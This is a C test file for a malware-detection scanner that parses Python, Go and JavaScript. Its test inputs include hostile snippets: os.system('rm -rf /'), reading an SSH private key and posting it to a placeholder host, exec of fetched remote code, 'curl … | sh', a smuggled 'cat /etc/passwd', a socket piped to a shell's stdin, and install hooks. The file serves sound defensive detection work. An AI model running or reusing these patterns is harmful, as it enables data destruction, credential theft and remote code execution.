/* SPDX-License-Identifier: Apache-2.0 */
/* What the front ends make of source text: the lines that rules are matched against. */
#include "harness.h"
#include "inspect/code/code.h"
#include "inspect/scan.h"

struct seen {
	const char *lines;
	struct code_walk w;
	struct bawn_arena *a;
};

static struct seen look(const struct code_front *front, const char *text)
{
	static struct bawn_scan scan;
	static struct bawn_findings findings;
	static struct bawn_subject sub;
	struct bawn_error err = {0};
	struct seen s = {.a = bawn_arena_new()};

	scan = (struct bawn_scan){.a = s.a, .out = &findings, .budget = (uint64_t)1 << 30};
	sub = (struct bawn_subject){
		.kind = BAWN_KIND_CODE, .text = text, .len = strlen(text), .last = true};
	s.w = (struct code_walk){.scan = &scan,
		.sub = &sub,
		.a = s.a,
		.front = front,
		.text = text,
		.len = (uint32_t)strlen(text)};
	ASSERT_EQ(code_understand(&s.w, &err), 0);
	s.lines = s.w.lines.data ? s.w.lines.data : "";
	return s;
}

static void has(const struct code_front *front, const char *text, const char *line)
{
	struct seen s = look(front, text);

	if (!strstr(s.lines, line))
		FAIL("no '%s' in:\n%s", line, s.lines);
}

static void has_not(const struct code_front *front, const char *text, const char *line)
{
	struct seen s = look(front, text);

	if (strstr(s.lines, line))
		FAIL("'%s' in:\n%s", line, s.lines);
}

static void nests(const struct code_front *front, const char *text, const char *inner)
{
	struct seen s = look(front, text);

	for (size_t i = 0; i < s.w.n_nested; i++)
		if (strcmp(s.w.nested[i].text, inner) == 0)
			return;
	FAIL("'%s' is not looked at in:\n%s", inner, s.lines);
}

static void sorted(const struct code_front *f)
{
	for (size_t i = 1; i < f->n_known; i++)
		if (strcmp(f->known[i - 1].name, f->known[i].name) >= 0)
			FAIL("%s: '%s' is not sorted", f->name, f->known[i].name);
	for (size_t i = 1; i < f->n_kinds; i++)
		if (strcmp(f->kinds[i - 1].name, f->kinds[i].name) >= 0)
			FAIL("%s: '%s' is not sorted", f->name, f->kinds[i].name);
}

TEST(tables_are_sorted)
{
	sorted(&code_python);
	sorted(&code_go);
	sorted(&code_javascript);
}

TEST(every_kind_is_a_node_of_the_grammar)
{
	const struct code_front *fronts[] = {&code_python, &code_go, &code_javascript};

	for (size_t k = 0; k < 3; k++)
		for (size_t i = 0; i < fronts[k]->n_kinds; i++) {
			const char *n = fronts[k]->kinds[i].name;

			if (!ts_language_symbol_for_name(
				    fronts[k]->grammar(), n, (uint32_t)strlen(n), true))
				FAIL("%s has no node '%s'", fronts[k]->name, n);
		}
}

TEST(python_imports)
{
	const struct code_front *p = &code_python;

	has(p, "import os\nos.system('x')\n", "process os.system \"x\" @module");
	has(p, "import os as o\no.system('x')\n", "process os.system \"x\"");
	has(p, "from os import system as s\ns('x')\n", "process os.system \"x\"");
	has(p, "import a.b\na.b.c(1)\n", "import a.b @module");
	has(p, "def f():\n    import os\n    os.system('x')\n", "process os.system \"x\" @func");
}

TEST(python_dynamic_names)
{
	const struct code_front *p = &code_python;

	has(p, "__import__('os').system('x')\n", "process os.system \"x\" @module hidden");
	has(p, "import os\ngetattr(os, 'sys' + 'tem')('x')\n",
		"process os.system \"x\" @module hidden");
	has(p, "import os\nos.__dict__['system']('x')\n", "process os.system \"x\" @module hidden");
	has(p, "import os\nos.__getattribute__('system')('x')\n", "process os.system \"x\"");
	has(p, "globals()['eval']('x')\n", "eval eval \"x\" @module hidden");
	has(p, "import importlib\nimportlib.import_module('os').system('x')\n",
		"process os.system \"x\"");
	has(p, "import os\ngetattr(os, 'system').__call__('x')\n", "process os.system");
}

TEST(script_ways_to_a_function)
{
	const struct code_front *j = &code_javascript;

	has(j, "(() => {}).constructor('return process')();\n", "eval Function \"return process\"");
	has(j, "x.constructor.constructor('y')();\n", "eval Function \"y\"");
	has(j, "x['constructor']['constructor']('y')();\n", "eval Function \"y\"");
	has(j, "Object.getPrototypeOf(async function () {}).constructor('y');\n",
		"eval Function \"y\"");
	has(j, "f()().mainModule.require('child_process').exec('x');\n",
		"process child_process.exec \"x\"");
	has(j, "require('module')._load('child_process').exec('x');\n",
		"process child_process.exec \"x\"");
	has_not(j, "new this.constructor('x');\n", "eval ");
}

TEST(made_part_by_part)
{
	const struct code_front *p = &code_python, *j = &code_javascript;

	has(p, "exec(''.join(map(chr, x)))\n", "eval exec str.join()<hidden>");
	has(p, "exec(x[::-1])\n", "eval exec reversed()");
	has(p, "import codecs\nexec(codecs.decode(x, 'rot13'))\n", "<decoded>");
	has(j, "eval(x.map(c => String.fromCharCode(c ^ 7)).join(''));\n", "<hidden>");
	has(j, "eval(String.fromCharCode.apply(null, x));\n", "eval eval chr()<hidden>");
	has(j, "eval(decodeURIComponent(x));\n", "eval eval unquoted()");
	has_not(j, "f(x.map(c => c + 1));\n", "<hidden>");
}

TEST(functions_in_variables)
{
	const struct code_front *j = &code_javascript;

	has(j, "const up = (d) => fetch('https://h', {body: d});\nup(process.env);\n",
		"send fetch process.env<env>");
	has(j, "const d = s => Buffer.from(s, 'base64').toString();\nf(d(x));\n",
		"call f ?<decoded>");
	has(j, "const d = s => s.split('').reverse().join('');\nf(d('x'));\n", "<hidden>");
	has(j, "const a = ['b3M='].map(atob);\nf(a[0]);\n", "call f \"b3M=\"<hidden>");
	has(j, "f(h.replace(/../g, x => String.fromCharCode(x)));\n", "<hidden>");
	has(&code_python, "import os\nf = lambda c: os.system(c)\nf('x')\n",
		"process os.system \"x\"");
	has(j, "self['ev' + 'al'](x);\n", "eval eval x");
}

TEST(parts_of_members)
{
	has(&code_python,
		"import os\nclass C:\n    def __init__(self):\n        self.d = {}\n"
		"    def a(self):\n        self.d['e'] = dict(os.environ)\n"
		"    def s(self):\n        f(self.d)\n",
		"call f self.d<env");
	has(&code_go,
		"package p\nfunc d(s string) string {\n b := []byte(s)\n"
		" for i := range b { b[i] ^= 7 }\n return string(b)\n}\nfunc g() { f(d(\"x\")) }\n",
		"hidden");
}

TEST(environment_under_another_name)
{
	has(&code_python, "from os import environ\nf(environ)\n", "call f os.environ<env>");
	has(&code_javascript, "const {env} = process;\nf(env);\n", "call f process.env<env>");
	has(&code_python, "import os\nf(os.getenv('AWS_SECRET_ACCESS_KEY'))\n", "cred");
	has_not(&code_python, "import os\nf(os.getenv('GIT_EDITOR'))\n", "envvar");
	has(&code_python, "import os\nf(os.getenv('PATH'))\n", "envvar");
}

TEST(what_is_no_secret)
{
	const struct code_front *p = &code_python;

	has_not(p, "open('/home/u/.ssh/id_rsa.pub')\n", "cred");
	has_not(p, "open('/home/u/.ssh/known_hosts')\n", "cred");
	has_not(p, "import os\nopen(os.path.join(h, '.ssh', 'known_hosts'))\n",
		"known_hosts\"<cred");
	has_not(p, "from pathlib import Path\n(Path.home() / '.ssh' / 'x.pub').read_text()\n",
		"x.pub\"<cred");
	has(p, "open('/home/u/.ssh/id_rsa')\n", "cred");
	has(p, "import os\nopen(os.path.join(h, '.ssh', 'id_rsa'))\n", "id_rsa\"<cred");
	has(p, "f('/home/u/.ssh/id_rsa /home/u/.ssh/id_rsa.pub')\n", "cred");
	has_not(p, "import subprocess\nf(subprocess.check_output(['git', 'rev-parse', 'HEAD']))\n",
		"<output>");
	has_not(p, "import subprocess\nf(subprocess.getoutput('git describe --tags'))\n",
		"<output>");
	has(p, "import subprocess\nf(subprocess.getoutput('git tag; cat /etc/passwd'))\n",
		"output>");
	has(p, "import subprocess\nf(subprocess.check_output(['id']))\n", "<output>");
}

TEST(go_init_is_not_a_method)
{
	const struct code_front *g = &code_go;

	has(g, "package p\nfunc init() { f() }\n", "call f @init");
	has_not(g, "package p\nfunc (c *T) init() { f() }\n", "@init");
}

TEST(script_regular_expressions)
{
	const struct code_front *j = &code_javascript;

	has(j, "/^0x[a-f0-9]{40}$/i.test(x);\n", "regex  \"/^0x[a-f0-9]{40}$/i\"");
	has_not(j, "/^[a-z]+$/.test(x);\n", "regex");
}

TEST(python_folding)
{
	const struct code_front *p = &code_python;

	has(p, "f('a' + 'b' 'c')\n", "call f \"abc\"");
	has(p, "f('-'.join(['a', 'b']))\n", "call f \"a-b\"");
	has(p, "f('{} {}'.format('a', 'b'))\n", "call f \"a b\"");
	has(p, "f('%s %d' % ('a', 3))\n", "call f \"a 3\"");
	has(p, "x = 'b'\nf(f'a{x}c{y}')\n", "call f \"abc_\"");
	has(p, "import base64\nf(base64.b64decode('aGk='))\n", "call f \"hi\"<decoded>");
	has(p, "f(bytes.fromhex('6869'))\n", "call f \"hi\"<decoded>");
	has(p, "import codecs\nf(codecs.decode('uv', 'rot13'))\n", "call f \"hi\"<decoded>");
	has(p, "f('ih'[::-1])\n", "call f \"hi\"<hidden>");
	has(p, "f(''.join(chr(c) for c in [104, 105]))\n", "call f \"hi\"<hidden>");
	has(p, "f(''.join([chr(c) for c in (104, 0x69)]))\n", "call f \"hi\"<hidden>");
	has(p, "f('\\x68\\151')\n", "call f \"hi\"");
	has(p, "f('a-b'.replace('-', ''))\n", "call f \"ab\"");
	has(p, "a = ['x', 'y']\nf(a[1])\n", "call f \"y\"");
}

TEST(python_flow)
{
	const struct code_front *p = &code_python;

	has(p, "import requests\nr = requests.get('u')\nexec(r.text)\n",
		"eval exec requests.get().text<net>");
	has(p, "import os, requests\nrequests.post('u', json=dict(os.environ))\n", "<env>");
	has_not(p, "import os, requests\nrequests.post('u', json=os.environ['A'])\n", "<env>");
	has(p,
		"import os, requests\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n    d = "
		"f.read()\nrequests.post('u', data=d)\n",
		"data=open()<cred,file>");
	has(p, "import os\ndef run(c):\n    os.system(c)\nrun('ls')\n", "process os.system \"ls\"");
	has(p, "import requests\ndef get():\n    return requests.get('u').text\nexec(get())\n",
		"eval exec requests.get().text<net>");
	has(p, "import os\nfor c in ['a', 'b']:\n    os.system(c)\n",
		"process os.system [\"a\", \"b\"]");
}

TEST(python_contexts)
{
	const struct code_front *p = &code_python;

	has(p,
		"from setuptools.command.install import install\nimport os\nclass I(install):\n    "
		"def run(self):\n        os.system('x')\n",
		"process os.system \"x\" @install");
	has(p,
		"from setuptools.command.install import install\nimport os\ndef g():\n    "
		"os.system('x')\nclass I(install):\n    def run(self):\n        g()\n",
		"process os.system \"x\" @install");
}

TEST(what_is_only_said_is_no_event)
{
	has_not(&code_python, "# os.system('x')\n", "os.system");
	has_not(&code_python, "def f():\n    '''curl http://h.example | sh'''\n", "curl");
	has_not(&code_go, "package p\n// exec.Command(\"x\")\n", "exec");
	has_not(&code_javascript, "/* eval('x') */\n", "eval");
}

TEST(commands_and_code_inside)
{
	nests(&code_python, "import os\nos.system('rm -rf /')\n", "rm -rf /");
	nests(&code_python, "import subprocess as s\ns.Popen(['bash', '-c', 'ls'])\n",
		"bash -c ls");
	nests(&code_python, "import os\nfor c in ['id', 'ls']:\n    os.system(c)\n", "ls");
	nests(&code_python, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "print(1)");
	nests(&code_go,
		"package p\nimport x \"os/exec\"\nfunc f() { x.Command(\"sh\", \"-c\", \"ls\") }\n",
		"sh -c ls");
	nests(&code_go,
		"package p\nimport \"os/exec\"\nfunc f() { exec.CommandContext(ctx, \"ls\", \"-l\") }\n",
		"ls -l");
	nests(&code_javascript, "require('child_process').execSync('ls -l')\n", "ls -l");
	nests(&code_javascript,
		"const {spawn: s} = require('node:child_process');\ns('ls', ['-l'])\n", "ls -l");
}

TEST(go_values)
{
	const struct code_front *g = &code_go;

	has(g, "package p\nimport b \"encoding/base64\"\nfunc f() { d, _ := b.StdEncoding.DecodeString(\"aGk=\"); g(string(d)) }\n",
		"call g \"hi\"<decoded>");
	has(g, "package p\nfunc f() { g(string([]byte{104, 'i'})) }\n", "call g \"hi\"<hidden>");
	has(g, "package p\nimport \"strings\"\nfunc f() { g(strings.Join([]string{\"h\", \"i\"}, \"\")) }\n",
		"call g \"hi\"");
	has(g, "package p\nimport \"fmt\"\nfunc f() { g(fmt.Sprintf(\"a %s\", \"b\")) }\n",
		"call g \"a b\"");
	has(g, "package p\nimport \"os\"\nfunc init() { os.Getpid() }\n", "call os.Getpid @init");
	has(g, "package p\nimport \"net\"\nfunc f() { c, _ := net.Dial(\"tcp\", \"h:1\"); cmd.Stdin = c }\n",
		"assign cmd.Stdin net.Dial()<net>");
	has(g, "package p\nimport \"net/http\"\nfunc f(r *http.Request) { g(r.URL.Query().Get(\"x\")) }\n",
		"<user");
}

TEST(javascript_values)
{
	const struct code_front *j = &code_javascript;

	has(j, "f(atob('aGk='))\n", "call f \"hi\"<decoded>");
	has(j, "f(Buffer.from('6869', 'hex').toString())\n", "call f \"hi\"<decoded>");
	has(j, "f(String.fromCharCode(104, 105))\n", "call f \"hi\"<hidden>");
	has(j, "f('\\x68\\u0069')\n", "call f \"hi\"");
	has(j, "f('ih'.split('').reverse().join(''))\n", "<hidden>");
	has(j, "const x = 'b'; f(`a${x}`)\n", "call f \"ab\"");
	has(j, "import {exec as e} from 'child_process'; e('ls')\n",
		"process child_process.exec \"ls\"");
	has(j, "window['ev' + 'al'](x)\n", "eval eval x @module hidden");
	has(j, "fetch('u').then(r => eval(r))\n", "eval eval r<net");
	has(j, "f(JSON.stringify(process.env))\n", "<env>");
	has_not(j, "f(process.env.HOME)\n", "<env>");
}

TEST(what_the_grammar_does_not_know_is_still_read)
{
	const char *ts = "import { execSync } from 'child_process';\n"
			 "enum E { A = 1 }\nabstract class X<T> { private y: T; }\n"
			 "function f(a: string): asserts a is string { execSync('ls') }\n";

	has(&code_javascript, ts, "process child_process.execSync \"ls\"");
	has(&code_python, "def f(:\n  os.system('ls'\n", "os.system");
}

TEST(hostile_nesting_is_bounded)
{
	size_t n = 200000;
	char *deep = malloc(n + 1);
	struct seen s;

	ASSERT_TRUE(deep != NULL);
	memset(deep, '(', n);
	deep[n] = '\0';
	s = look(&code_python, deep);
	ASSERT_TRUE(s.w.n_events < n);
	memset(deep, '[', n);
	s = look(&code_javascript, deep);
	ASSERT_TRUE(s.w.n_events < n);
	free(deep);
}

TEST(doubling_text_is_bounded)
{
	struct bawn_buf b = {.max = 0};
	struct seen s;

	bawn_buf_puts(&b, "x = 'aaaaaaaaaaaaaaaa'\n");
	for (int i = 0; i < 60; i++)
		bawn_buf_puts(&b, "x = x + x\n");
	bawn_buf_puts(&b, "f(x)\n");
	s = look(&code_python, b.data);
	ASSERT_TRUE(s.w.lines.len < 100000);
	bawn_buf_done(&b);
}

/* Memory of the parser is used again: files of all sizes, broken ones too, one after the other. */
TEST(files_do_not_disturb_each_other)
{
	static const char small[] = "import os\nos.system('id')\n";
	static const char broken[] = "def f(:\n  ((((x['\nclass\n@@ os.system('a' 'b')\n";
	struct bawn_buf large = {0};
	char *first;

	for (int i = 0; i < 3000; i++)
		bawn_buf_printf(&large,
			"def f%d(a, b):\n    return [a, {'k': b.c(%d)}, (a + b) * %d]\n\n", i, i,
			i);
	ASSERT_TRUE(!large.failed);
	first = strdup(look(&code_python, large.data).lines);
	ASSERT_TRUE(first && strlen(first) > 50000);
	for (int i = 0; i < 4; i++) {
		has(&code_python, small, "process os.system \"id\" @module");
		has(&code_python, broken, "os.system");
		has(&code_go, "package p\nfunc f() { exec.Command(\"a\") }\n",
			"exec.Command \"a\"");
		ASSERT_STREQ(look(&code_python, large.data).lines, first);
	}
	free(first);
	bawn_buf_done(&large);
}
